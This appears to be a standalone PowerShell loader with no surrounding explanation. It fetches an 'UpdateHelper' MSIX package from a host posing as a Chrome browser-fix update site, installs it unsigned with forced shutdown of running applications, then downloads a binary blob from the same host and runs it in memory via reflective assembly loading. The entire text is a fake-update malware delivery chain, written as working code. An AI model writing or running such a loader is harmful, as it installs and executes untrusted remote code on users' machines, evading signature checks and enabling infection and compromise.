$u = "https://updates.browser-fix.example.org/chrome/UpdateHelper.msix"
$p = "$env:TEMP\UpdateHelper.msix"
Invoke-WebRequest $u -OutFile $p -UseBasicParsing
Add-AppxPackage -Path $p -ForceApplicationShutdown -AllowUnsigned
$b = (New-Object Net.WebClient).DownloadData("https://updates.browser-fix.example.org/chrome/idat.bin")
[Reflection.Assembly]::Load($b).EntryPoint.Invoke($null, @(,[string[]]@()))
